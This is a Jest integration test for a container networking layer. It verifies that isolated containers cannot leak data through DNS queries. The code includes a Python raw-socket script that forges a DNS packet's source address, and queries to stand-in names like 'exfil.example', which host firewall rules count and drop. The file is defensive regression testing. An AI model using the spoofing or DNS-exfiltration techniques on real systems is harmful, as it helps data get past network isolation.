/**
 * DNS as a way out of an environment whose egress is `none`. Its containers need their
 * environment's names (aardvark-dns on their bridge's gateway), and nothing else of DNS:
 *
 * - with egress `none`, port 53 of every address of the host was open to them (another bridge's
 *   aardvark-dns, a dnsmasq or systemd-resolved listening on a host address), and TCP port 53 of
 *   the gateway, where aardvark-dns 1.4 does not listen but a host resolver on every address does;
 * - with egress `none`, aardvark-dns forwarded their queries for outside names to the host's
 *   resolvers: `<data>.attacker.example` carried data out past every firewall rule; and it still
 *   did for a query whose source address (written with a raw socket) was no container's.
 *
 * Egress `environment` reaches the host, whose resolvers answer it on their own addresses: its
 * outside names are forwarded as those of `any` are (not forwarding them kept nothing in and made
 * every such lookup wait out the resolver's timeout).
 *
 * The forwarded queries are seen (and dropped: nothing leaves the machine) by a counting rule in
 * the host's OUTPUT chain that matches the query's name; the `any` container's query, which is
 * forwarded, shows that the rule sees them.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { NetworkManager, findNetavark, type Egress } from '../../host/network/index.js';
import { claimSubnetBase } from '../support/subnets.js';
import { listArtifacts } from './artifacts.js';
import { ask } from './probes.js';

const pid = process.pid;
const BASE = claimSubnetBase();
const PREFIX = `ctq${pid % 100000}g`;
const ID = (name: string) => `ctq-${pid}-${name}`;
const scope = { netnsPrefix: `ctq-${pid}-`, bridgePrefix: PREFIX, subnetBase: BASE };
const EGRESS = ['none', 'environment', 'any'] as const;
/** The counting rule's comment (named like our namespaces: listArtifacts would report it left behind). */
const PROBE = `${scope.netnsPrefix}probe`;

const run = (cmd: string, ...args: string[]) => execFileSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });

/**
 * From inside a namespace, with a raw socket (what CAP_NET_RAW allows a container): one UDP DNS
 * query for `name` to server:53 whose IP header names `source` as its sender. aardvark-dns 1.4
 * forwards the query of an address it has no container for to the host's resolvers.
 */
const SPOOF = `import socket, struct, sys
src, dst, name = sys.argv[1:4]
q = bytes([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + bytes([0, 0, 1, 0, 1])
udp = struct.pack('!HHHH', 40053, 53, 8 + len(q), 0) + q
ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(ip + udp, (dst, 0))`;
const spoof = (ns: string, source: string, server: string, name: string) => run('ip', 'netns', 'exec', ns, 'python3', '-c', SPOOF, source, server, name);

/** The mangle OUTPUT rules of this file that count (and drop) DNS queries leaving the host whose name holds `label`. */
const counter = (label: string) => ['OUTPUT', '-p', 'udp', '--dport', '53', '-m', 'string', '--algo', 'bm', '--string', label, '-m', 'comment', '--comment', PROBE, '-j', 'DROP'];
function counted(label: string): number {
  const line = run('iptables-save', '-c', '-t', 'mangle').split('\n').find((l) => l.includes(PROBE) && l.includes(`"${label}"`));
  return line ? Number(/^\[(\d+):/.exec(line)![1]) : -1;
}

describe('DNS from containers by their egress', () => {
  let stateDir: string;
  let net: NetworkManager;
  let hostResolver: Server | undefined;
  const ns: Partial<Record<Egress, string>> = {};
  const gateway: Partial<Record<Egress, string>> = {};
  const labels: string[] = [];

  beforeAll(async () => {
    if (process.getuid?.() !== 0) throw new Error('host/network tests run as root (CI does)');
    await findNetavark();
    stateDir = mkdtempSync(join(tmpdir(), 'ct-egress-dns-state-'));
    net = new NetworkManager({ stateDir, subnetBase: BASE, bridgePrefix: PREFIX, slots: 4 });
    for (const egress of EGRESS) {
      for (const app of ['client', 'peer']) await net.attach({ containerId: ID(`${egress}-${app}`), environment: `dns-${egress}`, app, egress, ports: [] });
      ns[egress] = basename(net.attachment(ID(`${egress}-client`))!.netns);
      gateway[egress] = net.bridgeOf(net.store.network(`dns-${egress}`)!).gateway;
    }
    // A resolver of the host on every address answers TCP on the gateway's port 53 (aardvark-dns 1.4 serves UDP only).
    const srv = createServer((s) => s.destroy());
    await new Promise<void>((resolve) => srv.listen(53, gateway.none, resolve));
    hostResolver = srv;
  }, 60_000);

  afterAll(async () => {
    hostResolver?.close();
    for (const label of labels) run('iptables', '-t', 'mangle', '-D', ...counter(label));
    for (const row of net?.store.attachments() ?? []) await net.detach(row.containerId);
    net?.close();
    if (stateDir) rmSync(stateDir, { recursive: true, force: true });
    expect(listArtifacts(scope)).toEqual({ netns: [], bridges: [], veths: [], rules: [] });
  }, 60_000);

  /** What the `none` client reaches of DNS: its own resolver, another bridge's, and TCP port 53 of its gateway. */
  const noneReaches = async () => [
    await ask(ns.none!, gateway.none!, 'peer'),
    await ask(ns.none!, gateway.any!, 'peer'),
    await ask(ns.none!, gateway.none!, 'peer', 'tcp'),
  ];

  it("lets an egress `none` container ask its own environment's resolver, and no other DNS server of the host", async () => {
    expect(await noneReaches()).toEqual(['answered', 'silent', 'silent']);
    // Whatever the egress allows besides, its own resolver answers it.
    expect(await Promise.all([ask(ns.environment!, gateway.environment!, 'peer'), ask(ns.any!, gateway.any!, 'peer')])).toEqual(['answered', 'answered']);
  }, 30_000);

  it('forwards outside names to the host\'s resolvers for egress `environment` and `any`, not `none`', async () => {
    const nonce = randomBytes(6).toString('hex');
    const seen: string[] = [];
    for (const egress of EGRESS) {
      const label = `x${nonce}${egress}`;
      run('iptables', '-t', 'mangle', '-I', ...counter(label));
      labels.push(label);
      await ask(ns[egress]!, gateway[egress]!, `${label}.exfil.example`);
    }
    // aardvark-dns forwards after it answered nothing: the counters are read once it had time to.
    await new Promise((r) => setTimeout(r, 1000));
    for (const egress of EGRESS) seen.push(`${egress}: ${counted(`x${nonce}${egress}`) > 0 ? 'forwarded' : 'kept'}`);
    expect(seen).toEqual(['none: kept', 'environment: forwarded', 'any: forwarded']);
  }, 30_000);

  it('forwards no query of a `none` container that names another sender (raw socket)', async () => {
    // The address of a container that was attached and left: its rule went with it.
    await net.attach({ containerId: ID('none-leaver'), environment: 'dns-none', app: 'leaver', egress: 'none', ports: [] });
    const left = net.attachment(ID('none-leaver'))!.address;
    await net.detach(ID('none-leaver'));
    const nonce = randomBytes(6).toString('hex');
    const senders = [
      // An address of its subnet that no container has: aardvark-dns knows no dns_servers for it.
      ['none', gateway.none!.replace(/\.1$/, '.200')], ['none left', left], ['none outside', '192.0.2.7'],
      // The `any` container's own address: forwarded, as its own queries are (the control).
      ['any', net.attachment(ID('any-client'))!.address],
      // An address of its subnet that no container has: egress is each container's, by its
      // address, and one that is no container's has `none`'s (egress.ts).
      ['any unknown', gateway.any!.replace(/\.1$/, '.200')],
    ] as const;
    for (const [i, [what, source]] of senders.entries()) {
      const label = `s${nonce}${i}`;
      run('iptables', '-t', 'mangle', '-I', ...counter(label));
      labels.push(label);
      const egress = what.startsWith('any') ? 'any' : 'none';
      spoof(ns[egress]!, source, gateway[egress]!, `${label}.exfil.example`);
    }
    await new Promise((r) => setTimeout(r, 1000));
    const seen = senders.map(([what], i) => `${what}: ${counted(`s${nonce}${i}`) > 0 ? 'forwarded' : 'kept'}`);
    // `any` shows that such a query is forwarded where nothing stops it.
    expect(seen).toEqual(['none: kept', 'none left: kept', 'none outside: kept', 'any: forwarded', 'any unknown: kept']);
  }, 30_000);

  it("gives `none` networks an earlier agent set up (port 53 of every host address open) this agent's rules at recover()", async () => {
    const bridge = net.bridgeOf(net.store.network('dns-none')!).bridge;
    const mangle = () => run('iptables-save', '-t', 'mangle').split('\n');
    // What an agent before the change wrote: its DNS ACCEPTs for any address, UDP and TCP.
    for (const l of mangle().filter((x) => x.includes(`cerro-torre egress ${bridge}"`) && x.includes('--dport 53'))) run('sh', '-c', `iptables -t mangle ${l.replace(/^-A/, '-D')}`);
    for (const proto of ['tcp', 'udp']) run('iptables', '-t', 'mangle', '-I', 'INPUT', '-i', bridge, '-p', proto, '--dport', '53', '-m', 'comment', '--comment', `cerro-torre egress ${bridge}`, '-j', 'ACCEPT');
    expect(await noneReaches()).toEqual(['answered', 'answered', 'connected']);
    // The upgraded agent: a new manager on the same state, its first inventory (every container running).
    const next = new NetworkManager({ stateDir, subnetBase: BASE, bridgePrefix: PREFIX, slots: 4 });
    try {
      expect(await next.recover(() => 'running')).toEqual([]);
    } finally {
      next.close();
    }
    expect(await noneReaches()).toEqual(['answered', 'silent', 'silent']);
  }, 30_000);

  it('rewrites at recover() the egress rules of a network that are not exactly what it writes, and leaves the same ones as they are', async () => {
    const bridge = (e: Egress) => net.bridgeOf(net.store.network(`dns-${e}`)!).bridge;
    // Each network's rules in their order (the networks' rules interleave as they were written).
    const ours = (withCounters: boolean) => {
      const lines = run('iptables-save', ...(withCounters ? ['-c'] : []), '-t', 'mangle').split('\n');
      return EGRESS.flatMap((e) => lines.filter((l) => l.includes(`cerro-torre egress ${bridge(e)}"`)));
    };
    const recover = async () => {
      const next = new NetworkManager({ stateDir, subnetBase: BASE, bridgePrefix: PREFIX, slots: 4 });
      try {
        expect(await next.recover(() => 'running')).toEqual([]);
      } finally {
        next.close();
      }
    };
    await recover();
    // A query counted by the client's ACCEPT: a rule written again would count from 0.
    expect(await ask(ns.none!, gateway.none!, 'peer')).toBe('answered');
    const before = ours(false);
    const counters = ours(true);
    const accepted = (lines: string[]) => lines.filter((l) => l.includes(' --dport 53 ')).map((l) => Number(/^\[(\d+):/.exec(l)![1]));
    expect(Math.max(...accepted(counters))).toBeGreaterThan(0);
    await recover();
    expect(ours(false)).toEqual(before);
    expect(accepted(ours(true))).toEqual(accepted(counters));

    // One rule missing (`none`: the DROP of new connections to the host), one of another egress
    // (`environment` with `any`'s RETURN in place of its DROP), one more (`any`: an ACCEPT of TCP 53).
    const tagged = (e: Egress) => ['-m', 'comment', '--comment', `cerro-torre egress ${bridge(e)}`];
    run('iptables', '-t', 'mangle', '-D', 'INPUT', '-i', bridge('none'), '-m', 'conntrack', '!', '--ctstate', 'RELATED,ESTABLISHED', ...tagged('none'), '-j', 'DROP');
    run('iptables', '-t', 'mangle', '-D', 'FORWARD', '-i', bridge('environment'), '!', '-o', bridge('environment'), '-m', 'conntrack', '!', '--ctstate', 'RELATED,ESTABLISHED', ...tagged('environment'), '-j', 'DROP');
    run('iptables', '-t', 'mangle', '-I', 'FORWARD', '-i', bridge('environment'), '-o', bridge('environment'), ...tagged('environment'), '-j', 'RETURN');
    run('iptables', '-t', 'mangle', '-I', 'INPUT', '-i', bridge('any'), '-p', 'tcp', '--dport', '53', ...tagged('any'), '-j', 'ACCEPT');
    expect(await ask(ns.none!, gateway.none!, 'peer', 'tcp')).toBe('connected');
    await recover();
    expect(ours(false)).toEqual(before);
    expect(await noneReaches()).toEqual(['answered', 'silent', 'silent']);
  }, 30_000);
});
